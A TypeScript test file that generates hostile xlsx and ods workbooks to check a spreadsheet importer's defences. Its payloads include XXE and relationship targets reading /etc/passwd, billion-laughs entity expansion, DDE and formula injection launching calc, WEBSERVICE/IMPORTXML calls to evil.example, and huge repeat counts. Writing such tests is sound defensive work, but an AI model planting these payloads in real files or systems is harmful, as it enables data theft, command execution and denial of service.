import { strToU8 } from 'fflate';
import { workbook } from '../workbooks.ts';
import type { Hostile } from './corpus.ts';
import { fixture, laughs, soundRows, soundWorkbook, withPart, withSheet } from './parts.ts';

const inHousehold = (value: string): Uint8Array =>
  workbook({
    DS: [
      ['Chủ hộ', 'Xóm', 'Ghi chú'],
      ['Lê Văn An', 'Xóm 1', value],
    ],
  });
const formula = (text: string) =>
  withSheet(
    `${soundRows}<row r="3"><c r="A3"><f>${text}</f></c><c r="B3" t="inlineStr"><is><t>Xóm 1</t></is></c></row>`,
  );
const ods = (rows: string) => () =>
  withPart(fixture('register.ods'), 'content.xml', (bytes) =>
    strToU8(new TextDecoder().decode(bytes).replace('</table:table>', `${rows}</table:table>`)),
  );
const part = (name: string, content: string) => () => withPart(soundWorkbook(), name, () => strToU8(content));
const SHARED = 'xl/sharedStrings.xml';
const empty = (count: number) =>
  Array.from({ length: count }, (_, i) => `<row r="${i + 3}" s="1" customFormat="1"/>`).join('');

/** Workbooks with too much, too little or something else in their cells. */
export const workbooks = (): Hostile[] => [
  {
    name: 'xlsx: laughs',
    make: () =>
      withSheet(`<row r="1"><c r="A1" t="inlineStr"><is><t>&a10;</t></is></c></row>`, { doctype: laughs('worksheet') }),
    outcome: 'xml_entities|no_header|empty',
  },
  {
    name: 'xlsx: an external entity',
    make: () =>
      withSheet(`${soundRows}<row r="3"><c r="A3" t="inlineStr"><is><t>&x;</t></is></c></row>`, {
        doctype: '<!DOCTYPE worksheet [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
      }),
    outcome: 'rows|xml_entities',
  },
  ...[
    'HYPERLINK("http://evil.example/","x")',
    "cmd|'/C calc'!A0",
    'DDE("cmd","/C calc","x")',
    'WEBSERVICE("http://evil.example/")',
    'IMPORTXML("http://evil.example/","//a")',
  ].map((text) => ({
    name: `xlsx: formula ${text.slice(0, 12)}`,
    make: () => formula(text.replaceAll('"', '&quot;')),
    outcome: 'rows',
  })),
  ...["=cmd|'/C calc'!A0", '+SUM(1,1)', '@SUM(1)', '-1+1|cmd', '\t=1'].map((text) => ({
    name: `xlsx: text ${JSON.stringify(text)}`,
    make: () => inHousehold(text),
    outcome: 'rows',
  })),
  {
    name: 'xlsx: a cell in column XFD of row 1,048,576',
    make: () => withSheet(`${soundRows}<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>`),
    outcome: 'rows',
  },
  {
    name: 'xlsx: a cell in a column that is not there',
    make: () => withSheet(`${soundRows}<row r="3"><c r="ZZZZZZ3"><v>1</v></c></row>`),
    outcome: 'rows|unreadable|too_large',
  },
  {
    name: 'xlsx: row number 4,294,967,295',
    make: () => withSheet(`${soundRows}<row r="4294967295"><c r="A4294967295"><v>1</v></c></row>`),
    outcome: 'rows|unreadable|too_large',
  },
  {
    name: 'xlsx: a cell in row 4,294,967,294',
    make: () => withSheet(`${soundRows}<row r="3"><c r="A4294967294"><v>1</v></c></row>`),
    outcome: 'rows',
  },
  {
    name: 'xlsx: a million columns in one row',
    heavy: true,
    make: () => withSheet(`${soundRows}<row r="3">${'<c><v>1</v></c>'.repeat(1_000_000)}</row>`),
    outcome: 'rows|too_large',
  },
  { name: 'xlsx: 100,000 empty rows with styles', make: () => withSheet(soundRows + empty(100_000)), outcome: 'rows' },
  {
    name: 'xlsx: 1,048,574 empty rows with styles',
    heavy: true,
    make: () => withSheet(soundRows + empty(1_048_574)),
    outcome: 'rows|too_large',
  },
  {
    name: 'xlsx: a text that is not in the table',
    make: () =>
      withSheet(`${soundRows}<row r="3"><c r="A3" t="s"><v>4294967295</v></c><c r="B3" t="s"><v>-1</v></c></row>`),
    outcome: 'unreadable',
  },
  {
    name: 'xlsx: a text of 10 MB',
    heavy: true,
    make: () =>
      inHousehold('x'.repeat(32_000)) &&
      withSheet(`${soundRows}<row r="3"><c r="A3" t="inlineStr"><is><t>${'Lê '.repeat(3_000_000)}</t></is></c></row>`),
    outcome: 'rows|too_large',
  },
  {
    name: 'xlsx: texts without end',
    make: part(SHARED, `<sst>${'<si><t>x'.repeat(200_000)}`),
    outcome: 'rows|unreadable|no_header|empty',
  },
  {
    name: 'xlsx: rows within rows',
    make: () => withSheet('<row r="1">'.repeat(50_000)),
    outcome: 'rows|unreadable|no_header|empty|too_large',
  },
  {
    name: 'xlsx: the whole sheet joined into one cell',
    make: () => withSheet(soundRows, { after: '<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>' }),
    outcome: 'rows|no_header',
  },
  {
    name: 'xlsx: 100,000 joined ranges',
    make: () =>
      withSheet(soundRows, {
        after: `<mergeCells>${Array.from({ length: 100_000 }, (_, i) => `<mergeCell ref="C${i + 3}:D${i + 3}"/>`).join('')}</mergeCells>`,
      }),
    outcome: 'rows',
  },
  {
    name: 'xlsx: a dimension that lies',
    make: () => withSheet(soundRows, { before: '<dimension ref="A1:XFD1048576"/>' }),
    outcome: 'rows',
  },
  {
    name: 'xlsx: columns said to go on for ever',
    make: () => withSheet(soundRows, { before: '<cols><col min="1" max="4294967295" width="1"/></cols>' }),
    outcome: 'rows|unreadable',
  },
  {
    name: 'xlsx: dates and numbers beyond all',
    make: () =>
      withSheet(
        `${soundRows}<row r="3"><c r="A3"><v>1e308</v></c><c r="B3"><v>NaN</v></c><c r="C3" t="d"><v>-99999-99-99</v></c></row>`,
      ),
    outcome: 'rows',
  },
  {
    name: 'xlsx: a workbook without sheets',
    make: part('xl/workbook.xml', '<workbook/>'),
    outcome: 'unreadable|empty|no_header',
  },
  {
    name: 'xlsx: a workbook that is no XML',
    make: part('xl/workbook.xml', '\u0000\u0001\u0002'),
    outcome: 'unreadable|empty|no_header',
  },
  {
    name: 'xlsx: a sheet that is somewhere else',
    make: part(
      'xl/_rels/workbook.xml.rels',
      '<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="file:///etc/passwd"/></Relationships>',
    ),
    outcome: 'unreadable|empty|no_header|rows',
  },
  {
    name: 'xlsx: 5,000 sheets',
    make: part(
      'xl/workbook.xml',
      `<workbook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>${Array.from({ length: 5_000 }, (_, i) => `<sheet name="s${i}" sheetId="${i + 1}" r:id="rId1"/>`).join('')}</sheets></workbook>`,
    ),
    outcome: 'rows|empty|no_header|too_large|unreadable',
  },
  {
    name: 'ods: a number of a billion digits',
    make: () =>
      withPart(fixture('register.ods'), 'styles.xml', (bytes) =>
        strToU8(new TextDecoder().decode(bytes).replace('min-integer-digits="1"', 'min-integer-digits="1e9"')),
      ),
    outcome: 'too_large',
  },
  {
    name: 'ods: a sheet without a name',
    make: () =>
      withPart(fixture('register.ods'), 'content.xml', (bytes) =>
        strToU8(new TextDecoder().decode(bytes).replace(/(<table:table\b[^>]*?) table:name="[^"]*"/, '$1')),
      ),
    outcome: 'rows',
  },
  {
    name: 'ods: a billion rows',
    make: ods(
      '<table:table-row table:number-rows-repeated="1000000000"><table:table-cell office:value-type="string"><text:p>x</text:p></table:table-cell></table:table-row>',
    ),
    outcome: 'too_large',
  },
  {
    name: 'ods: a billion empty rows',
    make: ods(
      '<table:table-row table:number-rows-repeated="1000000000"><table:table-cell table:number-columns-repeated="16384"/></table:table-row>',
    ),
    outcome: 'rows|too_large',
  },
  {
    name: 'ods: rows repeated below nothing',
    make: ods(
      '<table:table-row table:number-rows-repeated="-5"><table:table-cell table:number-columns-repeated="1e9" office:value-type="string"><text:p>x</text:p></table:table-cell></table:table-row>',
    ),
    outcome: 'rows|too_large|unreadable',
  },
  {
    name: 'ods: a cell of a million paragraphs',
    heavy: true,
    make: ods(
      `<table:table-row><table:table-cell office:value-type="string">${'<text:p>x</text:p>'.repeat(1_000_000)}</table:table-cell></table:table-row>`,
    ),
    outcome: 'rows|too_large',
  },
  {
    name: 'ods: spaces repeated a billion times',
    make: ods(
      '<table:table-row><table:table-cell office:value-type="string"><text:p>x<text:s text:c="1000000000"/></text:p></table:table-cell></table:table-row>',
    ),
    outcome: 'rows|too_large|unreadable',
  },
];
